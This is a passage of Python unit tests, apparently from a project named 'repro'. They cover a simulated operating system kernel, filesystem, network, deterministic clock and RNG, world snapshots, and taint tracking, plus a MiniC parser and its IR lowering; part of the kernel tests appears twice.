    assert kernel.execute("open", ("/missing", "r")) == -1


def test_open_write_creates_and_truncates():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/out.txt", "w"))
    kernel.execute("write", (fd, "abc"))
    kernel.execute("close", (fd,))
    fd2 = kernel.execute("open", ("/data/out.txt", "w"))
    kernel.execute("write", (fd2, "z"))
    assert kernel.world.fs.file("/data/out.txt").content == "z"


def test_append_mode():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "a"))
    kernel.execute("write", (fd, "!"))
    assert kernel.world.fs.file("/data/input.txt").content == "hello\nworld\n!"


def test_read_line():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("read_line", (fd,)) == "hello\n"
    assert kernel.execute("read_line", (fd,)) == "world\n"
    assert kernel.execute("read_line", (fd,)) == ""


def test_stdin_read():
    kernel = make_kernel()
    assert kernel.execute("read", (0, 5)) == "stdin"
    assert kernel.execute("read", (0, 100)) == "-content"


def test_write_to_stdout_logged():
    kernel = make_kernel()
    assert kernel.execute("write", (1, "out")) == 3
    assert kernel.stdout == ["out"]
    assert kernel.output_log[-1][0] == "write"


def test_seek():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    kernel.execute("seek", (fd, 6))
    assert kernel.execute("read", (fd, 5)) == "world"


def test_stat():
    kernel = make_kernel()
    size, mtime = kernel.execute("stat", ("/data/input.txt",))
    assert size == len("hello\nworld\n")
    assert kernel.execute("stat", ("/missing",)) is None


def test_socket_connect_send_recv():
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    assert kernel.execute("connect", (fd, "srv", 9)) == 0
    assert kernel.execute("send", (fd, "ping")) == 4
    assert kernel.execute("recv", (fd, 10)) == "ok:ping"


def test_connect_unknown_host_fails():
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    assert kernel.execute("connect", (fd, "nope", 1)) == -1


def test_time_and_rand_nondeterministic_sources():
    kernel = make_kernel()
    t1 = kernel.execute("time", ())
    t2 = kernel.execute("time", ())
    assert t2 > t1
    r1 = kernel.execute("rand", ())
    assert isinstance(r1, int)


def test_getenv():
    kernel = make_kernel()
    assert kernel.execute("getenv", ("HOME",)) == "/home/user"
    assert kernel.execute("getenv", ("NOPE",)) is None


def test_exit_raises():
    kernel = make_kernel()
    with pytest.raises(ProgramExit) as info:
        kernel.execute("exit", (3,))
    assert info.value.code == 3


def test_malloc_records_allocation_sink():
    kernel = make_kernel()
    addr = kernel.execute("malloc", (100,))
    assert addr >= kernel.world.heap_base
    assert kernel.allocations == [(100, addr)]
    assert kernel.execute("free", (addr,)) == 0


def test_sink_observe_and_source_read():
    kernel = make_kernel()
    kernel.world.sources["secret"] = "s3cr3t"
    assert kernel.execute("source_read", ("secret",)) == "s3cr3t"
    kernel.execute("sink_observe", ("retaddr", 1234))
    assert kernel.observations == [("retaddr", 1234)]


def test_read_write_seek_on_bad_fd():
    kernel = make_kernel()
    assert kernel.execute("read", (99, 5)) is None  # never opened
    assert kernel.execute("read_line", (99,)) is None
    assert kernel.execute("write", (99, "x")) == -1
    assert kernel.execute("seek", (99, 0)) == -1


def test_read_write_seek_on_closed_fd():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    kernel.execute("close", (fd,))
    assert kernel.execute("read", (fd, 5)) is None
    assert kernel.execute("write", (fd, "x")) == -1
    assert kernel.execute("seek", (fd, 0)) == -1


def test_write_to_read_only_fd_fails():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("write", (fd, "x")) == -1
    assert kernel.world.fs.file("/data/input.txt").content == "hello\nworld\n"


def test_seek_rejects_bad_position():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("seek", (fd, -1)) == -1
    assert kernel.execute("seek", (fd, "x")) == -1
    assert kernel.execute("read", (fd, 5)) == "hello"  # position unchanged


def test_unlink_missing_path_fails():
    kernel = make_kernel()
    assert kernel.execute("unlink", ("/missing",)) == -1
    assert kernel.execute("unlink", (42,)) == -1
    assert kernel.output_log[-1][2] == -1


def test_rename_missing_source_fails():
    kernel = make_kernel()
    assert kernel.execute("rename", ("/missing", "/data/new")) == -1
    assert kernel.execute("rename", ("/data/input.txt", 42)) == -1
    assert not kernel.world.fs.is_file("/data/new")


def test_connect_on_non_socket_fd_fails():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("connect", (fd, "srv", 9)) == -1  # a file, not a socket
    assert kernel.execute("connect", (99, "srv", 9)) == -1  # never created
    assert kernel.execute("send", (fd, "x")) == -1
    assert kernel.execute("recv", (fd, 4)) is None


def test_resource_resolution():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.resource_of("open", ("/data/input.txt", "r")) == "file:/data/input.txt"
    assert kernel.resource_of("read", (fd, 5)) == "file:/data/input.txt"
    assert kernel.resource_of("read", (0, 5)) == "stdin"
    assert kernel.resource_of("write", (1, "x")) == "stdout"
    sock = kernel.execute("socket", ())
    kernel.execute("connect", (sock, "srv", 9))
    assert kernel.resource_of("send", (sock, "x")) == "conn:srv:9"


def test_send_after_close_is_ebadf():
    """Use-after-close must fail like EBADF, not silently succeed (and
    keep mutating endpoint state)."""
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    kernel.execute("connect", (fd, "srv", 9))
    connection = kernel._sockets[fd]
    assert kernel.execute("send", (fd, "ping")) == 4
    connection.closed = True
    log_before = list(kernel.output_log)
    assert kernel.execute("send", (fd, "late")) == -1
    # A failed send is not an output: the sink log must not grow.
    assert kernel.output_log == log_before
    assert connection.sent == ["ping"]


def test_recv_after_close_is_ebadf():
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    kernel.execute("connect", (fd, "srv", 9))
    kernel.execute("send", (fd, "ping"))
    kernel._sockets[fd].closed = True
    assert kernel.execute("recv", (fd, 10)) is None


def test_send_recv_on_kernel_closed_fd():
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    kernel.execute("connect", (fd, "srv", 9))
    kernel.execute("close", (fd,))
    assert kernel.execute("send", (fd, "x")) == -1
    assert kernel.execute("recv", (fd, 4)) is None


def test_world_clone_independent():
    world = World(seed=1)
    world.fs.add_file("/f", "a")
    clone = world.clone()
    clone.fs.file("/f").content = "b"
    assert world.fs.file("/f").content == "a"
    # Continuing clone keeps deterministic streams in lockstep.
    assert world.clock.read() == clone.clock.read()


def test_world_reseed_changes_nondeterminism():
    world = World(seed=1)
    reseeded = world.clone(new_seed=2)
    assert world.rng.next_int(10**9) != reseeded.rng.next_int(10**9)


def test_world_clone_deep_copies_mutable_sources():
    """Regression: sources were shallow-copied, so a mutable value
    served by source_read was aliased between master and slave."""
    world = World(seed=1)
    world.sources["list"] = [1, 2, 3]
    world.sources["dict"] = {"k": ["nested"]}
    clone = world.clone()
    clone.sources["list"].append(99)
    clone.sources["dict"]["k"].append("slave")
    assert world.sources["list"] == [1, 2, 3]
    assert world.sources["dict"] == {"k": ["nested"]}
    world.sources["list"].append(-1)
    assert clone.sources["list"] == [1, 2, 3, 99]


def test_clock_and_rng_state_roundtrip():
    clock = VirtualClock(start=123, step=7)
    clock.read()
    restored = VirtualClock.from_state(clock.state())
    assert restored.read() == clock.read()
    rng = DeterministicRng(9)
    rng.next_int(100)
    thawed = DeterministicRng.from_state(rng.state())
    assert [thawed.next_int(1000) for _ in range(10)] == [
        rng.next_int(1000) for _ in range(10)
    ]


def _busy_world():
    world = World(seed=3)
    world.fs.add_file("/etc/secret", "42")
    world.env["HOME"] = "/home"
    world.stdin = "piped"
    world.sources["s"] = ["mutable"]
    world.network.register("srv", 9, lambda req: f"ok:{req}")
    return world


def test_world_snapshot_restore_roundtrip():
    world = _busy_world()
    # Mutate past the initial build: writes, deletions, network and
    # nondeterminism-stream progress.
    world.fs.add_file("/log/out", "line")
    world.fs.unlink("/etc/secret")
    conn = world.network.connect("srv", 9)
    conn.send("ping")
    assert conn.recv(2) == "ok"
    world.clock.read()
    world.rng.next_int(100)
    world.sources["s"].append("later")

    snap = world.snapshot()
    import pickle

    snap = pickle.loads(pickle.dumps(snap))  # must survive the disk trip
    restored = _busy_world().restore(snap)

    assert restored.fs.paths() == world.fs.paths()
    for path in world.fs.paths():
        assert restored.fs.read_file(path).content == world.fs.read_file(path).content
    assert not restored.fs.exists("/etc/secret")
    assert restored.env == world.env
    assert restored.stdin == world.stdin
    assert restored.sources == world.sources
    assert restored.pid == world.pid and restored.heap_base == world.heap_base
    # Streams continue in lockstep from the restore point.
    assert restored.clock.read() == world.clock.read()
    assert restored.rng.next_int(1000) == world.rng.next_int(1000)
    # The restored connection resumes mid-stream with rebuilt script state.
    twin = restored.network.connections[0]
    assert twin.sent == ["ping"]
    assert twin.recv(100) == conn.recv(100) == ":ping"
    twin.send("again")
    conn.send("again")
    assert twin.recv(100) == conn.recv(100)


def test_world_snapshot_rejects_other_versions():
    world = _busy_world()
    snap = world.snapshot()
    snap["version"] = 999
    with pytest.raises(ValueError):
        _busy_world().restore(snap)


def test_world_snapshot_restores_stateful_endpoints_by_replay():
    world = World(seed=1)

    def factory():
        state = [0]

        def script(req):
            state[0] += 1
            return f"n{state[0]};"

        return script

    world.network.register_factory("srv", 1, factory)
    conn = world.network.connect("srv", 1)
    conn.send("a")
    conn.send("b")
    snap = world.snapshot()

    fresh = World(seed=1)
    fresh.network.register_factory("srv", 1, factory)
    restored = fresh.restore(snap)
    twin = restored.network.connections[0]
    twin.send("c")
    assert twin.recv(1000) == "n1;n2;n3;"


def test_taint_map_covers_parent_directories():
    taints = ResourceTaintMap()
    taints.taint("file:/d", "created only in master")
    assert taints.is_tainted("file:/d/inner/file.txt")
    assert not taints.is_tainted("file:/other")
    assert not taints.is_tainted(None)
