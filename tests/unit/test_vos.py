"""Unit tests for the virtual OS: filesystem, network, kernel."""

import pytest

from repro.vos.clock import DeterministicRng, VirtualClock
from repro.vos.filesystem import VirtualFS, parent_dir
from repro.vos.kernel import Kernel, ProgramExit
from repro.vos.network import Network
from repro.vos.resources import ResourceTaintMap
from repro.vos.world import World


# -- filesystem ---------------------------------------------------------------


def test_parent_dir():
    assert parent_dir("/a/b/c") == "/a/b"
    assert parent_dir("/a") == "/"
    assert parent_dir("/") == "/"


def test_add_file_creates_parents():
    fs = VirtualFS()
    fs.add_file("/etc/app/config", "x=1")
    assert fs.is_dir("/etc")
    assert fs.is_dir("/etc/app")
    assert fs.is_file("/etc/app/config")


def test_listdir():
    fs = VirtualFS()
    fs.add_file("/d/a", "1")
    fs.add_file("/d/b", "2")
    fs.add_file("/d/sub/c", "3")
    assert fs.listdir("/d") == ["a", "b", "sub"]
    assert fs.listdir("/nope") is None


def test_mkdir_requires_parent():
    fs = VirtualFS()
    assert not fs.mkdir("/a/b")
    assert fs.mkdir("/a")
    assert fs.mkdir("/a/b")
    assert not fs.mkdir("/a")  # already exists


def test_unlink_file_and_empty_dir():
    fs = VirtualFS()
    fs.add_file("/d/f", "x")
    assert fs.unlink("/d/f")
    assert not fs.is_file("/d/f")
    assert fs.unlink("/d")
    assert not fs.unlink("/nope")


def test_unlink_nonempty_dir_fails():
    fs = VirtualFS()
    fs.add_file("/d/f", "x")
    assert not fs.unlink("/d")


def test_rename():
    fs = VirtualFS()
    fs.add_file("/a", "data")
    assert fs.rename("/a", "/b")
    assert fs.file("/b").content == "data"
    assert not fs.is_file("/a")
    assert not fs.rename("/missing", "/c")


def test_clone_is_deep():
    fs = VirtualFS()
    fs.add_file("/a", "original")
    copy = fs.clone()
    copy.file("/a").content = "changed"
    assert fs.file("/a").content == "original"


def test_normalize_resolves_dot_segments():
    fs = VirtualFS()
    fs.add_file("/a/b", "data")
    # All aliases of /a/b resolve to the same file.
    assert fs.file("/a/./b").content == "data"
    assert fs.file("/a/x/../b").content == "data"
    assert fs.file("//a///b").content == "data"
    fs.file("/a/c/../b").content = "rewritten"
    assert fs.file("/a/b").content == "rewritten"
    assert fs.paths() == ["/a/b"]


def test_normalize_clamps_dotdot_at_root():
    fs = VirtualFS()
    fs.add_file("/../../etc/secret", "s")
    assert fs.is_file("/etc/secret")
    assert fs.file("/etc/../../../etc/secret").content == "s"
    assert fs.is_dir("/..")  # clamps to "/"


def test_aliased_write_is_one_file_not_two():
    """The copy-on-divergence regression: an aliased path must not
    create a second file that escapes FS diffing."""
    fs = VirtualFS()
    fs.add_file("/a/../b", "one")
    fs.add_file("/b", "two")
    assert fs.paths() == ["/b"]
    assert fs.file("/b").content == "two"
    clone = fs.clone()
    assert clone.paths() == fs.paths()


def test_listdir_dot_segment_aliases_and_root():
    fs = VirtualFS()
    fs.add_file("/d/a", "1")
    assert fs.listdir("/d/../d") == ["a"]
    assert fs.listdir("/d/a") is None  # a file, not a directory
    assert fs.listdir("/") == ["d"]
    assert VirtualFS().listdir("/") == []


def test_unlink_via_alias_and_root():
    fs = VirtualFS()
    fs.add_file("/d/f", "x")
    assert fs.unlink("/d/./f")
    assert not fs.is_file("/d/f")
    assert fs.unlink("/d/../d")
    assert not fs.unlink("/")  # the root is not removable
    assert not fs.unlink("/..")  # ..-clamped alias of the root


# -- network --------------------------------------------------------------------


def test_connect_to_registered_endpoint():
    net = Network()
    net.register("example.com", 80, lambda req: f"echo:{req}")
    conn = net.connect("example.com", 80)
    assert conn is not None
    conn.send("hello")
    assert conn.recv(100) == "echo:hello"


def test_connect_unknown_address_fails():
    assert Network().connect("nowhere", 1) is None


def test_recv_is_incremental():
    net = Network()
    net.register("h", 1, lambda req: "abcdef")
    conn = net.connect("h", 1)
    conn.send("x")
    assert conn.recv(3) == "abc"
    assert conn.recv(3) == "def"
    assert conn.recv(3) == ""


def test_network_clone_preserves_connections():
    net = Network()
    net.register("h", 1, lambda req: "resp")
    conn = net.connect("h", 1)
    conn.send("a")
    clone = net.clone()
    assert clone.connections[0].sent == ["a"]
    clone.connections[0].send("b")
    assert conn.sent == ["a"]


# -- clock / rng ------------------------------------------------------------------


def test_clock_monotonic():
    clock = VirtualClock()
    assert clock.read() < clock.read()


def test_rng_deterministic():
    a = DeterministicRng(5)
    b = DeterministicRng(5)
    assert [a.next_int(100) for _ in range(5)] == [b.next_int(100) for _ in range(5)]


def test_rng_seeds_differ():
    a = DeterministicRng(5)
    b = DeterministicRng(6)
    assert [a.next_int(1000) for _ in range(5)] != [b.next_int(1000) for _ in range(5)]


def test_rng_rejects_bound_above_modulus():
    rng = DeterministicRng(5)
    with pytest.raises(ValueError):
        rng.next_int(DeterministicRng.MODULUS + 1)
    with pytest.raises(ValueError):
        rng.next_int(2**31)
    # The largest satisfiable bound works; the state is untouched by
    # rejected calls, so streams stay reproducible.
    probe = DeterministicRng(5)
    assert rng.next_int(DeterministicRng.MODULUS) == probe.next_int(
        DeterministicRng.MODULUS
    )


def test_rng_small_and_degenerate_bounds():
    rng = DeterministicRng(5)
    assert all(0 <= rng.next_int(1) < 1 for _ in range(5))
    assert all(0 <= rng.next_int(7) < 7 for _ in range(100))


def test_rng_clone_preserves_stream_exactly():
    rng = DeterministicRng(42)
    for _ in range(10):
        rng.next_int(1000)
    clone = rng.clone()
    assert [rng.next_int(1000) for _ in range(20)] == [
        clone.next_int(1000) for _ in range(20)
    ]


def test_rng_clone_survives_pickling():
    """Process-pool workers receive seeds/state by pickling; the
    stream must continue identically on the other side."""
    import pickle

    rng = DeterministicRng(7)
    for _ in range(5):
        rng.next_int(100)
    shipped = pickle.loads(pickle.dumps(rng.clone()))
    assert [rng.next_int(10**6) for _ in range(20)] == [
        shipped.next_int(10**6) for _ in range(20)
    ]


# -- kernel -------------------------------------------------------------------------


def make_kernel():
    world = World(seed=1)
    world.fs.add_file("/data/input.txt", "hello\nworld\n")
    world.stdin = "stdin-content"
    world.env["HOME"] = "/home/user"
    world.network.register("srv", 9, lambda req: f"ok:{req}")
    return Kernel(world)


def test_open_read_close():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert fd >= 3
    assert kernel.execute("read", (fd, 5)) == "hello"
    assert kernel.execute("read", (fd, 100)) == "\nworld\n"
    assert kernel.execute("read", (fd, 10)) == ""
    assert kernel.execute("close", (fd,)) == 0
    assert kernel.execute("close", (fd,)) == -1


def test_open_missing_file_fails():
    kernel = make_kernel()
    assert kernel.execute("open", ("/missing", "r")) == -1


def test_open_write_creates_and_truncates():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/out.txt", "w"))
    kernel.execute("write", (fd, "abc"))
    kernel.execute("close", (fd,))
    fd2 = kernel.execute("open", ("/data/out.txt", "w"))
    kernel.execute("write", (fd2, "z"))
    assert kernel.world.fs.file("/data/out.txt").content == "z"


def test_append_mode():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "a"))
    kernel.execute("write", (fd, "!"))
    assert kernel.world.fs.file("/data/input.txt").content == "hello\nworld\n!"


def test_read_line():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("read_line", (fd,)) == "hello\n"
    assert kernel.execute("read_line", (fd,)) == "world\n"
    assert kernel.execute("read_line", (fd,)) == ""


def test_stdin_read():
    kernel = make_kernel()
    assert kernel.execute("read", (0, 5)) == "stdin"
    assert kernel.execute("read", (0, 100)) == "-content"


def test_write_to_stdout_logged():
    kernel = make_kernel()
    assert kernel.execute("write", (1, "out")) == 3
    assert kernel.stdout == ["out"]
    assert kernel.output_log[-1][0] == "write"


def test_seek():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    kernel.execute("seek", (fd, 6))
    assert kernel.execute("read", (fd, 5)) == "world"


def test_stat():
    kernel = make_kernel()
    size, mtime = kernel.execute("stat", ("/data/input.txt",))
    assert size == len("hello\nworld\n")
    assert kernel.execute("stat", ("/missing",)) is None


def test_socket_connect_send_recv():
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    assert kernel.execute("connect", (fd, "srv", 9)) == 0
    assert kernel.execute("send", (fd, "ping")) == 4
    assert kernel.execute("recv", (fd, 10)) == "ok:ping"


def test_connect_unknown_host_fails():
    kernel = make_kernel()
    fd = kernel.execute("socket", ())
    assert kernel.execute("connect", (fd, "nope", 1)) == -1


def test_time_and_rand_nondeterministic_sources():
    kernel = make_kernel()
    t1 = kernel.execute("time", ())
    t2 = kernel.execute("time", ())
    assert t2 > t1
    r1 = kernel.execute("rand", ())
    assert isinstance(r1, int)


def test_getenv():
    kernel = make_kernel()
    assert kernel.execute("getenv", ("HOME",)) == "/home/user"
    assert kernel.execute("getenv", ("NOPE",)) is None


def test_exit_raises():
    kernel = make_kernel()
    with pytest.raises(ProgramExit) as info:
        kernel.execute("exit", (3,))
    assert info.value.code == 3


def test_malloc_records_allocation_sink():
    kernel = make_kernel()
    addr = kernel.execute("malloc", (100,))
    assert addr >= kernel.world.heap_base
    assert kernel.allocations == [(100, addr)]
    assert kernel.execute("free", (addr,)) == 0


def test_sink_observe_and_source_read():
    kernel = make_kernel()
    kernel.world.sources["secret"] = "s3cr3t"
    assert kernel.execute("source_read", ("secret",)) == "s3cr3t"
    kernel.execute("sink_observe", ("retaddr", 1234))
    assert kernel.observations == [("retaddr", 1234)]


def test_read_write_seek_on_bad_fd():
    kernel = make_kernel()
    assert kernel.execute("read", (99, 5)) is None  # never opened
    assert kernel.execute("read_line", (99,)) is None
    assert kernel.execute("write", (99, "x")) == -1
    assert kernel.execute("seek", (99, 0)) == -1


def test_read_write_seek_on_closed_fd():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    kernel.execute("close", (fd,))
    assert kernel.execute("read", (fd, 5)) is None
    assert kernel.execute("write", (fd, "x")) == -1
    assert kernel.execute("seek", (fd, 0)) == -1


def test_write_to_read_only_fd_fails():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("write", (fd, "x")) == -1
    assert kernel.world.fs.file("/data/input.txt").content == "hello\nworld\n"


def test_seek_rejects_bad_position():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("seek", (fd, -1)) == -1
    assert kernel.execute("seek", (fd, "x")) == -1
    assert kernel.execute("read", (fd, 5)) == "hello"  # position unchanged


def test_unlink_missing_path_fails():
    kernel = make_kernel()
    assert kernel.execute("unlink", ("/missing",)) == -1
    assert kernel.execute("unlink", (42,)) == -1
    assert kernel.output_log[-1][2] == -1


def test_rename_missing_source_fails():
    kernel = make_kernel()
    assert kernel.execute("rename", ("/missing", "/data/new")) == -1
    assert kernel.execute("rename", ("/data/input.txt", 42)) == -1
    assert not kernel.world.fs.is_file("/data/new")


def test_connect_on_non_socket_fd_fails():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.execute("connect", (fd, "srv", 9)) == -1  # a file, not a socket
    assert kernel.execute("connect", (99, "srv", 9)) == -1  # never created
    assert kernel.execute("send", (fd, "x")) == -1
    assert kernel.execute("recv", (fd, 4)) is None


def test_resource_resolution():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert kernel.resource_of("open", ("/data/input.txt", "r")) == "file:/data/input.txt"
    assert kernel.resource_of("read", (fd, 5)) == "file:/data/input.txt"
    assert kernel.resource_of("read", (0, 5)) == "stdin"
    assert kernel.resource_of("write", (1, "x")) == "stdout"
    sock = kernel.execute("socket", ())
    kernel.execute("connect", (sock, "srv", 9))
    assert kernel.resource_of("send", (sock, "x")) == "conn:srv:9"


def test_world_clone_independent():
    world = World(seed=1)
    world.fs.add_file("/f", "a")
    clone = world.clone()
    clone.fs.file("/f").content = "b"
    assert world.fs.file("/f").content == "a"
    # Continuing clone keeps deterministic streams in lockstep.
    assert world.clock.read() == clone.clock.read()


def test_world_reseed_changes_nondeterminism():
    world = World(seed=1)
    reseeded = world.clone(new_seed=2)
    assert world.rng.next_int(10**9) != reseeded.rng.next_int(10**9)


def test_taint_map_covers_parent_directories():
    taints = ResourceTaintMap()
    taints.taint("file:/d", "created only in master")
    assert taints.is_tainted("file:/d/inner/file.txt")
    assert not taints.is_tainted("file:/other")
    assert not taints.is_tainted(None)
