"""Unit tests for the MiniC parser."""

import pytest

from repro.errors import ParseError
from repro.lang import ast_nodes as ast
from repro.lang.parser import parse


def first_stmt(body_source):
    program = parse("fn main() { " + body_source + " }")
    return program.functions[0].body.statements[0]


def test_empty_function():
    program = parse("fn main() { }")
    assert len(program.functions) == 1
    assert program.functions[0].name == "main"
    assert program.functions[0].params == []


def test_parameters():
    program = parse("fn add(a, b) { return a + b; }")
    assert program.functions[0].params == ["a", "b"]


def test_global_declaration():
    program = parse('var g = 10;\nfn main() { }')
    assert len(program.globals) == 1
    assert program.globals[0].name == "g"


def test_var_decl_statement():
    stmt = first_stmt("var x = 1;")
    assert isinstance(stmt, ast.VarDecl)
    assert stmt.name == "x"


def test_assignment_statement():
    stmt = first_stmt("var x = 1; ")
    program = parse("fn main() { var x = 1; x = 2; }")
    assign = program.functions[0].body.statements[1]
    assert isinstance(assign, ast.Assign)
    assert isinstance(assign.target, ast.VarRef)


def test_compound_assignment_desugars():
    program = parse("fn main() { var x = 1; x += 2; }")
    assign = program.functions[0].body.statements[1]
    assert isinstance(assign, ast.Assign)
    assert isinstance(assign.value, ast.Binary)
    assert assign.value.op == "+"


def test_index_assignment():
    program = parse("fn main() { var a = [1]; a[0] = 5; }")
    assign = program.functions[0].body.statements[1]
    assert isinstance(assign.target, ast.Index)


def test_if_else_chain():
    stmt = first_stmt("if (1) { } else if (2) { } else { }")
    assert isinstance(stmt, ast.If)
    assert isinstance(stmt.else_block, ast.If)
    assert isinstance(stmt.else_block.else_block, ast.Block)


def test_while_loop():
    stmt = first_stmt("while (1) { break; }")
    assert isinstance(stmt, ast.While)
    assert isinstance(stmt.body.statements[0], ast.Break)


def test_for_loop_full():
    stmt = first_stmt("for (var i = 0; i < 10; i += 1) { continue; }")
    assert isinstance(stmt, ast.For)
    assert isinstance(stmt.init, ast.VarDecl)
    assert isinstance(stmt.condition, ast.Binary)
    assert isinstance(stmt.step, ast.Assign)


def test_for_loop_empty_parts():
    stmt = first_stmt("for (;;) { break; }")
    assert stmt.init is None
    assert stmt.condition is None
    assert stmt.step is None


def test_precedence_multiplication_binds_tighter():
    stmt = first_stmt("var x = 1 + 2 * 3;")
    assert stmt.initializer.op == "+"
    assert stmt.initializer.right.op == "*"


def test_comparison_below_arithmetic():
    stmt = first_stmt("var x = 1 + 2 < 3 * 4;")
    assert stmt.initializer.op == "<"


def test_logical_operators_short_circuit_nodes():
    stmt = first_stmt("var x = 1 and 2 or 3;")
    assert isinstance(stmt.initializer, ast.Logical)
    assert stmt.initializer.op == "or"
    assert stmt.initializer.left.op == "and"


def test_c_style_logical_tokens():
    stmt = first_stmt("var x = 1 && 2 || 3;")
    assert stmt.initializer.op == "or"


def test_unary_operators():
    stmt = first_stmt("var x = -1 + !0;")
    assert isinstance(stmt.initializer.left, ast.Unary)
    assert isinstance(stmt.initializer.right, ast.Unary)


def test_call_and_index_postfix():
    stmt = first_stmt("var x = f(1)[2];")
    assert isinstance(stmt.initializer, ast.Index)
    assert isinstance(stmt.initializer.base, ast.Call)


def test_nested_calls():
    stmt = first_stmt("var x = f(g(1), 2);")
    call = stmt.initializer
    assert isinstance(call.args[0], ast.Call)


def test_list_literal():
    stmt = first_stmt("var x = [1, 2, 3];")
    assert isinstance(stmt.initializer, ast.ListLiteral)
    assert len(stmt.initializer.items) == 3


def test_return_without_value():
    stmt = first_stmt("return;")
    assert isinstance(stmt, ast.Return)
    assert stmt.value is None


def test_missing_semicolon_raises():
    with pytest.raises(ParseError):
        parse("fn main() { var x = 1 }")


def test_invalid_assignment_target_raises():
    with pytest.raises(ParseError):
        parse("fn main() { 1 = 2; }")


def test_unterminated_block_raises():
    with pytest.raises(ParseError):
        parse("fn main() {")


def test_top_level_junk_raises():
    with pytest.raises(ParseError):
        parse("banana")
