"""Unit tests for AST-to-IR lowering."""

import pytest

from repro.ir import compile_source
from repro.ir import instructions as ins


def lower(source):
    return compile_source(source)


def instr_ops(function):
    return [instr.opname for instr in function.instrs]


def test_entry_and_exit_nops():
    module = lower("fn main() { }")
    main = module.function("main")
    assert isinstance(main.instrs[0], ins.Nop)
    assert main.instrs[0].note == "entry"
    assert isinstance(main.instrs[-1], ins.Nop)
    assert main.instrs[-1].note == "exit"


def test_implicit_return_added():
    module = lower("fn main() { var x = 1; }")
    main = module.function("main")
    assert isinstance(main.instrs[-2], ins.Ret)
    assert main.instrs[-2].src is None


def test_ret_successor_is_exit():
    module = lower("fn main() { return; var_unreachable(); } fn var_unreachable() { }")
    main = module.function("main")
    ret_index = next(
        i for i, instr in enumerate(main.instrs) if isinstance(instr, ins.Ret)
    )
    assert main.successors(ret_index) == (main.exit,)


def test_globals_evaluated():
    module = lower('var a = 2 + 3; var s = "x"; var l = [1, 2]; fn main() { }')
    assert module.global_values == {"a": 5, "s": "x", "l": [1, 2]}


def test_call_classification():
    module = lower(
        """
        fn helper(a) { return a; }
        fn main() {
          helper(1);
          len("x");
          print("hi");
          var h = helper;
          h(2);
        }
        """
    )
    ops = instr_ops(module.function("main"))
    assert "call" in ops
    assert "builtin" in ops
    assert "syscall" in ops
    assert "icall" in ops


def test_function_reference_materialized():
    module = lower("fn f() { } fn main() { var h = f; }")
    main = module.function("main")
    consts = [i for i in main.instrs if isinstance(i, ins.Const)]
    assert any(isinstance(c.value, ins.FuncRef) and c.value.name == "f" for c in consts)


def test_if_without_else_targets():
    module = lower("fn main() { if (1) { var x = 2; } }")
    main = module.function("main")
    cjump = next(i for i in main.instrs if isinstance(i, ins.CJump))
    assert cjump.true_target != cjump.false_target
    join = main.instrs[cjump.false_target]
    assert isinstance(join, ins.Nop)


def test_while_has_back_edge_to_loophead():
    module = lower("fn main() { var i = 0; while (i < 3) { i = i + 1; } }")
    main = module.function("main")
    head = next(
        i
        for i, instr in enumerate(main.instrs)
        if isinstance(instr, ins.Nop) and instr.note == "loophead"
    )
    back_jumps = [
        i
        for i, instr in enumerate(main.instrs)
        if isinstance(instr, ins.Jump) and instr.target == head and i > head
    ]
    assert back_jumps, "expected a back edge jump to the loop head"


def test_for_continue_jumps_to_step():
    module = lower(
        "fn main() { for (var i = 0; i < 3; i = i + 1) { continue; } }"
    )
    main = module.function("main")
    # The continue jump must not target the loop head directly (the step
    # must run), so its target differs from the head nop.
    head = next(
        i
        for i, instr in enumerate(main.instrs)
        if isinstance(instr, ins.Nop) and instr.note == "loophead"
    )
    continue_jump = next(
        instr
        for i, instr in enumerate(main.instrs)
        if isinstance(instr, ins.Jump) and i < instr.target
    )
    assert continue_jump.target != head


def test_break_jumps_past_loop():
    module = lower("fn main() { while (1) { break; } var y = 1; }")
    main = module.function("main")
    join = next(
        i
        for i, instr in enumerate(main.instrs)
        if isinstance(instr, ins.Nop) and instr.note == "loopjoin"
    )
    break_jump = next(
        instr for instr in main.instrs if isinstance(instr, ins.Jump) and instr.target == join
    )
    assert break_jump.target == join


def test_short_circuit_and_produces_cjump():
    module = lower("fn main() { var x = 1 and 2; }")
    main = module.function("main")
    assert any(isinstance(instr, ins.CJump) for instr in main.instrs)


def test_logical_or_skips_rhs_on_true():
    module = lower("fn main() { var x = 1 or 2; }")
    main = module.function("main")
    cjump = next(i for i in main.instrs if isinstance(i, ins.CJump))
    # for 'or', true target jumps past the rhs evaluation
    assert cjump.true_target > cjump.false_target


def test_all_edges_in_bounds():
    module = lower(
        """
        fn f(n) { if (n > 0) { return f(n - 1); } return 0; }
        fn main() { f(3); while (0) { } }
        """
    )
    for function in module.functions.values():
